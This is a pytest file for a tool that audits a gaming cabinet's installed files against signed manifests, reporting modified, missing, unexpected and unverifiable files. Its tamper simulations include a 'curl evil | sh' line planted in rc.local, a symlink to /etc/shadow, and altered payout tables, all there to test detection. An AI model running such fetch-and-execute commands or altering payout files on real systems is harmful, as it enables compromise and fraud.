"""The audit of installed files against the kept signed manifests (agent/tree_audit.py, docs/AGENT.md)."""

from __future__ import annotations

import json
import os
import shutil

import pytest

from agent import tree_audit
from agent.device import Device
from agent.format.tree import DIR, FILE, HARDLINK, SYMLINK, Entry
from agent.tree_audit import Modified, audit_environment, compare
from tests.sim.device import Cabinet
from tests.sim.disks import tmpfs_mounted

A = "a" * 64
B = "b" * 64


def _file(path, sha256=A, size=3, mode=0o644, uid=0, gid=0):
    return Entry(path=path, type=FILE, mode=mode, uid=uid, gid=gid, size=size, sha256=sha256)


def _dir(path, mode=0o755):
    return Entry(path=path, type=DIR, mode=mode, uid=0, gid=0)


def _link(path, target):
    return Entry(path=path, type=SYMLINK, uid=0, gid=0, target=target)


EXPECTED = [_dir("."), _dir("etc"), _file("etc/a"), _file("etc/b"), _link("etc/l", "a"), _dir("etc/ssh"),
            _file("etc/ssh/key")]


# (what the scan found instead of EXPECTED, missing, modified, unexpected); every difference is
# listed, not just the first.
CASES = {
    "identical": (EXPECTED, [], [], []),
    "content": ([*EXPECTED[:2], _file("etc/a", sha256=B), *EXPECTED[3:]], [], [Modified("etc/a", ("content",))], []),
    "size and content": ([*EXPECTED[:2], _file("etc/a", sha256=B, size=9), *EXPECTED[3:]], [],
                         [Modified("etc/a", ("size", "content"))], []),
    "mode": ([*EXPECTED[:3], _file("etc/b", mode=0o4755), *EXPECTED[4:]], [], [Modified("etc/b", ("mode",))], []),
    "owner": ([*EXPECTED[:3], _file("etc/b", uid=1000), *EXPECTED[4:]], [], [Modified("etc/b", ("owner",))], []),
    "link target": ([*EXPECTED[:4], _link("etc/l", "/etc/shadow"), *EXPECTED[5:]], [],
                    [Modified("etc/l", ("target",))], []),
    "type": ([*EXPECTED[:4], _file("etc/l", sha256=B), *EXPECTED[5:]], [],
             [Modified("etc/l", ("type", "size", "content", "target"))], []),
    "all at once": ([_dir("."), _dir("etc", mode=0o777), _file("etc/a", sha256=B), _file("etc/new"),
                     _link("etc/l", "b"), _dir("etc/ssh"), _file("etc/ssh/key"), _dir("tmp")],
                    ["etc/b"], [Modified("etc", ("mode",)), Modified("etc/a", ("content",)),
                                Modified("etc/l", ("target",))], ["etc/new", "tmp"]),
}


@pytest.mark.parametrize("case", CASES)
def test_compare_names_every_difference(case):
    actual, missing, modified, unexpected = CASES[case]
    result = compare(EXPECTED, actual, check_owner=True)
    assert (result.missing, result.modified, result.unexpected) == (missing, modified, unexpected)
    assert result.clean == (case == "identical")


def test_compare_leaves_out_machine_local_paths_and_checks_owner_only_when_asked():
    # etc/ssh is machine-local: its content is the machine's own, and the scan left it out.
    actual = [_dir("."), _dir("etc"), _file("etc/a", uid=1000), _file("etc/b"), _link("etc/l", "a")]
    assert compare(EXPECTED, actual, ("etc/ssh",), check_owner=False).clean
    assert compare(EXPECTED, actual, ("etc/ssh",), check_owner=True).modified == [Modified("etc/a", ("owner",))]
    # The folders leading to a nested component are not unexpected, even if no listing has them.
    assert compare([_dir(".")], [_dir("."), _dir("games")], ("games/x",), check_owner=True).clean


def test_hard_links_are_compared_by_their_target_only():
    expected = [_dir("."), _file("a"), Entry(path="b", type=HARDLINK, target="a")]
    assert compare(expected, expected, check_owner=True).clean
    moved = [_dir("."), _file("a"), _file("b")]
    assert compare(expected, moved, check_owner=True).modified == [Modified("b", ("type", "size", "content",
                                                                                  "target"))]


# --- the audit of an installed environment -----------------------------------------------------


def _audit(cabinet: Cabinet, environment: str = "env-1") -> dict:
    result = audit_environment(Device.open(cabinet.config), environment)
    json.dumps(result)  # plain data, ready for --json
    return result


def _diff(report: dict, component: str) -> tuple:
    c = report["components"][component]
    return c["missing"], c["modified"], c["unexpected"], c["problem"]


def test_a_freshly_provisioned_machine_audits_clean(cabinet):
    report = _audit(cabinet)
    assert report["clean"] and report["problem"] is None
    assert {n: (c["version"], c["sequence"]) for n, c in report["components"].items()} == \
        {"platform": ("13.2.0", 6), "game/lucky-sevens": ("1.0", 2)}


def test_every_change_to_the_installed_files_is_reported_per_component(cabinet):
    platform = cabinet.dir / "envs/env-1/platform"
    (platform / "etc/cabinet.conf").write_text("payout_table = generous\n")  # same size
    (platform / "usr/bin/sudo").chmod(0o755)
    (platform / "usr/bin/engine").unlink()
    (platform / "usr/bin/engine").symlink_to("/tmp/evil")
    (platform / "usr/share/doc/cabinet/changelog.gz").unlink()
    (platform / "etc/rc.local").write_text("curl evil | sh\n")
    (cabinet.dir / "envs/env-1/games/lucky-sevens/paytable.json").write_text('{"777": 900}\n')  # same size
    report = _audit(cabinet)
    assert not report["clean"]
    assert _diff(report, "platform") == (
        ["usr/share/doc/cabinet/changelog.gz"],
        [{"path": "etc/cabinet.conf", "what": ["content"]},
         {"path": "usr/bin/engine", "what": ["target"]},
         {"path": "usr/bin/sudo", "what": ["mode"]}],
        ["etc/rc.local"], None)
    assert _diff(report, "game/lucky-sevens") == ([], [{"path": "paytable.json", "what": ["content"]}], [], None)
    assert report["components"]["platform"]["modified_count"] == 3


def test_the_audit_checks_the_environment_against_its_own_manifests(cabinet, world):
    cabinet.agent("install", world.bundles / "d12", check=True)
    (cabinet.dir / "envs/env-2/games/fortune-wheel/wheel.dat").unlink()
    trial = _audit(cabinet, "env-2")
    assert {n: c["sequence"] for n, c in trial["components"].items()} == \
        {"platform": 7, "game/lucky-sevens": 3, "game/fortune-wheel": 1}
    assert _diff(trial, "game/fortune-wheel") == (["wheel.dat"], [], [], None) and not trial["clean"]
    assert _audit(cabinet, "env-1")["clean"]


def test_without_a_kept_manifest_a_component_is_unverifiable_never_clean(cabinet):
    (cabinet.dir / "state/environments/env-1.json").unlink()  # as on a machine provisioned before this version
    report = _audit(cabinet)
    assert not report["clean"]
    for component in ("platform", "game/lucky-sevens"):
        assert report["components"][component]["problem"].startswith("unverifiable")


def test_a_kept_manifest_that_fails_verification_is_a_problem_not_a_pass(cabinet):
    kept = next((cabinet.dir / "state/manifests").iterdir())
    for signature in kept.glob("*.minisig"):
        signature.unlink()
    report = _audit(cabinet)
    assert not report["clean"]
    assert "does not verify" in report["components"]["platform"]["problem"]


def test_what_no_component_can_hold_is_unexpected_and_a_damaged_record_is_reported(cabinet):
    game = cabinet.dir / "envs/env-1/games/lucky-sevens"
    os.mkfifo(game / "pipe")
    (game / os.fsdecode(b"caf\xe9")).write_text("a Latin-1 name")
    report = _audit(cabinet)
    component = report["components"]["game/lucky-sevens"]
    assert component["unexpected"] == ["caf\\xe9", "pipe"] and component["problem"] is None and not report["clean"]
    (cabinet.dir / "state/environments/env-1.json").write_text("{")
    report = _audit(cabinet)
    assert "damaged" in report["problem"] and not report["clean"]


def test_a_filesystem_mounted_over_nothing_signed_is_left_out_and_over_signed_files_is_audited(cabinet):
    """A running system mounts filesystems inside its environment (on bectl it is the live "/"):
    one where the manifest lists nothing beneath is not the component's, and is named, not
    entered; one mounted over signed files hides them, so those are what the audit reports."""
    platform = cabinet.dir / "envs/env-1/platform"
    with tmpfs_mounted(platform / "var/log"), tmpfs_mounted(platform / "usr/share/doc"):
        (platform / "var/log/messages").write_text("a log line\n")
        (platform / "usr/share/doc/notes").write_text("not what the release signed\n")
        report = _audit(cabinet)
        component = report["components"]["platform"]
        assert component["other_filesystems"] == ["var/log"]
        assert _diff(report, "platform") == (["usr/share/doc/cabinet", "usr/share/doc/cabinet/changelog.gz"],
                                             [{"path": "usr/share/doc", "what": ["mode"]}],
                                             ["usr/share/doc/notes"], None)
    (platform / "var/log").rmdir()  # its mount point, which the release does not list
    (platform / "var").rmdir()
    assert _audit(cabinet)["clean"]


def test_a_missing_component_folder_lists_everything_missing(cabinet):
    shutil.rmtree(cabinet.dir / "envs/env-1/games/lucky-sevens")
    report = _audit(cabinet)
    assert set(report["components"]["game/lucky-sevens"]["missing"]) == {".", "reels.dat", "paytable.json"}


def test_huge_damage_is_listed_up_to_a_cap_with_the_full_count(cabinet, monkeypatch):
    monkeypatch.setattr(tree_audit, "MAX_LISTED", 2)
    for number in range(5):
        (cabinet.dir / f"envs/env-1/platform/stray-{number}").write_text("x")
    component = _audit(cabinet)["components"]["platform"]
    assert component["unexpected"] == ["stray-0", "stray-1"] and component["unexpected_count"] == 5


def test_an_unknown_environment_is_refused(cabinet):
    from keys.errors import Refused
    with pytest.raises(Refused, match="there is no environment env-9"):
        _audit(cabinet, "env-9")
